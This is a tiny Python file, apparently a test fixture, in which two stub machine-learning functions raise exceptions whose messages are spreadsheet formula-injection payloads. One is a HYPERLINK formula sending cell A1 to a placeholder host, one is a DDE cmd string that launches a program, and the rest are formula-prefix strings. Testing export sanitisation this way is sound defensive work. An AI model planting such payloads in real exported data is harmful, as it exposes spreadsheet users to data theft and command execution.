"""Texts that spreadsheets calculate."""


def softmax(Z):
    raise ValueError('=HYPERLINK("http://x/?"&A1,"corpus")')


def cross_entropy_cost(A, Y):
    raise type("=cmd|' /C calc'!A0", (Exception,), {})("@SUM(1)\t+1\r-1")
